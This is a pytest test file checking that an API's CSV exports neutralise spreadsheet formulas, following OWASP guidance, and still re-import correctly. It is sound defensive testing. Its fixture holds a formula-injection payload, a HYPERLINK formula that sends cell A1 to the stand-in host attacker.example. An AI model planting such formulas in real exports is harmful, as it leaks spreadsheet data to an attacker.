"""CSV meant for spreadsheets neutralises formulas (OWASP), and exports still round-trip (issue 16, 6)."""

import csv
import io
import shutil
import zipfile

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from tests.helpers import DATA

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
QUERY = "SELECT ?d WHERE { ?m a pg:PolicyMeasure ; dcterms:description ?d }"


@pytest.fixture
def formula_client(cli, settings, tmp_path):
    """An app over the test records whose measure M1 has a formula as its description."""
    folder = tmp_path / "records"
    shutil.copytree(DATA / "records", folder)
    path = folder / "measures.csv"
    path.write_text(
        path.read_text().replace("Reserves airtime for local content.", f'"{FORMULA.replace(chr(34), 2 * chr(34))}"')
    )
    assert cli("ingest", str(folder), settings=settings).exit_code == 0
    with TestClient(create_app(settings)) as client:
        yield client


def test_export_csv_prefixes_formulas_and_round_trips(formula_client, cli, tmp_path, settings):
    archive = zipfile.ZipFile(io.BytesIO(formula_client.get("/api/export", params={"format": "csv"}).content))
    measures = next(name for name in archive.namelist() if name.endswith("measures.csv"))
    rows = list(csv.DictReader(io.StringIO(archive.read(measures).decode())))
    assert [row["description"] for row in rows] == ["'" + FORMULA]
    folder = tmp_path / "exported" / "records"
    archive.extractall(folder)
    again = settings.model_copy(update={"store": tmp_path / "again"})
    assert (
        cli(
            "ingest", str(folder / measures.rsplit("/", 1)[0]) if "/" in measures else str(folder), settings=again
        ).exit_code
        == 0
    )
    answer = cli("sparql", "-", "-f", "csv", settings=again, input=QUERY)
    assert FORMULA.replace('"', '""') in answer.output and "'=" not in answer.output  # the apostrophe is gone


def test_console_csv_download_prefixes_formulas(formula_client):
    download = formula_client.get("/console/sparql", params={"query": QUERY, "format": "csv"})
    assert download.text.splitlines()[1] == "\"'" + FORMULA.replace('"', '""') + '"'


def test_sparql_protocol_csv_stays_exact(formula_client):
    # /sparql answers the SPARQL 1.1 CSV results format, for programs: values exactly as stored.
    answer = formula_client.get("/sparql", params={"query": QUERY, "format": "csv"})
    assert answer.text.splitlines()[1] == '"' + FORMULA.replace('"', '""') + '"'
